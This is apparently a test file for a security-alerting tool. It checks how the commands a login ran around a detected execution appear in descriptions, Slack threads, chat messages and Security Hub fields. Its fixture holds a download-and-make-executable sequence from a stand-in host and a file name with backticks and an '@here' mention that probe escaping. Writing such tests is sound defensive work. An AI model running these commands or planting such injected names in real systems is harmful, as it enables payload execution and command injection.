/** What the same login did, in each output: where it is told, and in whose words. */
import { describe, expect, it } from 'vitest';
import { asffFinding } from '../../shared/alert/asff.ts';
import { chatNotification } from '../../shared/alert/chat-notification.ts';
import { descriptionOf } from '../../shared/alert/ocsf-description.ts';
import { alertMessage } from '../../shared/alert/slack/alert-message.ts';
import { updateMessage } from '../../shared/alert/slack/update-message.ts';
import type { Incident } from '../../shared/incident/incident.ts';
import { aboutOf, type LoginCommand, type LoginHistory } from '../../shared/login/login-history.ts';
import { incidentOfCase } from './ocsf-cases.ts';

const INCIDENT = incidentOfCase('execute');
const about = aboutOf(INCIDENT.gravest);
const AT = Date.UTC(2026, 10, 23, 3, 2, 11, 5);
const command = (text: string, after = 0): LoginCommand => ({ time: AT + after, pid: 7, command: text });

const READ: LoginHistory = {
  state: 'read',
  about,
  by: 'session',
  before: [command('curl -o /tmp/p http://x/p'), command("chmod +x '/tmp/@here `p`'", 1500)],
  after: [command('id', 4000)],
  moreBefore: true,
  moreAfter: false,
};
const UNREAD: LoginHistory = { state: 'unread', about, why: 'the log stream is not there' };

function withHistory(loginHistory: LoginHistory | null, change: Partial<Incident> = {}): Incident {
  return { ...INCIDENT, generation: 2, news: [{ what: 'login' }], loginHistory, ...change };
}

/** Lines of a description that are about the login. */
function lines(incident: Incident): string[] {
  return descriptionOf(incident)
    .split('\n')
    .filter((line) => /^(?:Login|Before|After): /.test(line));
}

const PRODUCT = {
  arn: 'arn:aws:securityhub:eu-central-1:111122223333:product/111122223333/default',
  partition: 'aws',
  account: '111122223333',
};
const fieldsOf = (incident: Incident) => asffFinding(incident, PRODUCT).ProductFields ?? {};

describe('the description', () => {
  it('has a line for each command, behind what it answers', () => {
    expect(lines(withHistory(READ))).toEqual([
      'Login: what the same login ran; there was more before',
      'Before: 03:02:11.005 curl -o /tmp/p http://x/p',
      "Before: 03:02:12.505 chmod +x '/tmp/@here `p`'",
      'After: 03:02:15.005 id',
    ]);
  });

  it('says what says so where there is no login', () => {
    expect(lines(withHistory({ ...READ, by: 'process-tree', moreBefore: false }))[0]).toBe(
      'Login: what processes of the same origin (there is no login) ran',
    );
  });

  it('says that nothing was run, which is not the same as nothing known', () => {
    const nothing: LoginHistory = { ...READ, before: [], after: [], moreBefore: false };
    expect(lines(withHistory(nothing))).toEqual([
      'Login: what the same login ran; nothing before and nothing after, within minutes',
    ]);
    expect(lines(withHistory(UNREAD))).toEqual([
      'Login: the log around it could not be read: the log stream is not there',
    ]);
    expect(lines(withHistory(null))).toEqual([]);
  });

  it('has it in later alerts too, but not of an execution that is no longer the gravest', () => {
    expect(lines(withHistory(READ, { news: [{ what: 'repeats', passed: 10 }] }))).toHaveLength(4);
    const gravest = { ...INCIDENT.gravest, sourceEventId: '1.000:2' };
    expect(lines(withHistory(READ, { gravest }))).toEqual([]);
  });
});

describe('Slack', () => {
  it('has it in the thread, each command as code', () => {
    const { blocks } = updateMessage(withHistory(READ), null);
    const json = JSON.stringify(blocks);
    expect(json).toContain('What the same login did');
    expect(json).toContain('Run by the same login; there was more before');
    expect(blocks).toContainEqual(
      expect.objectContaining({
        elements: [
          expect.objectContaining({
            elements: expect.arrayContaining([
              {
                type: 'rich_text_section',
                elements: [
                  { type: 'text', text: 'Before: ', style: { bold: true } },
                  { type: 'text', text: '03:02:12.505 ' },
                  { type: 'text', text: "chmod +x '/tmp/@here `p`'", style: { code: true } },
                ],
              },
            ]),
          }),
        ],
      }),
    );
  });

  it('says in the thread that the log could not be read', () => {
    expect(JSON.stringify(updateMessage(withHistory(UNREAD), null).blocks)).toContain(
      'the log around it could not be read: the log stream is not there',
    );
  });

  it('has it nowhere else: not in the first message, and not again in later updates', () => {
    expect(JSON.stringify(alertMessage(withHistory(READ)))).not.toContain('curl');
    const later = withHistory(READ, { news: [{ what: 'repeats', passed: 10 }] });
    expect(JSON.stringify(updateMessage(later, null))).not.toContain('curl');
  });
});

describe('a chat', () => {
  it('has it as a message of its own in the thread, and nothing that the thread has already', () => {
    const { content, metadata } = chatNotification(withHistory(READ), 'uid', 'aws');
    expect(content.description.split('\n')).toEqual([
      '*Login:* run by the same login; there was more before',
      '*Before:* 03:02:11.005 `curl -o /tmp/p http://x/p`',
      "*Before:* 03:02:12.505 `chmod +x '/tmp/\\x40here \\x60p\\x60'`",
      '*After:* 03:02:15.005 `id`',
      `Incident ${INCIDENT.id}, alert 2`,
    ]);
    expect(metadata.threadId).toBe(INCIDENT.id);
  });

  it('says that the log could not be read', () => {
    const { content } = chatNotification(withHistory(UNREAD), 'uid', 'aws');
    expect(content.description).toMatch(
      /^\*Login:\* the log around it could not be read: the log stream is not there\n/,
    );
  });
});

describe('Security Hub', () => {
  it('has it among the fields to search by', () => {
    expect(fieldsOf(withHistory(READ))).toMatchObject({
      'ldwatch/LoginBefore':
        "03:02:11.005 curl -o /tmp/p http://x/p | 03:02:12.505 chmod +x '/tmp/@here `p`'",
      'ldwatch/LoginAfter': '03:02:15.005 id',
    });
  });

  it('has no blank field where nothing is known', () => {
    for (const history of [null, UNREAD, { ...READ, before: [], after: [] }])
      expect(Object.keys(fieldsOf(withHistory(history))).filter((name) => name.includes('/Login'))).toEqual([
        'ldwatch/LoginUserId',
      ]);
  });
});
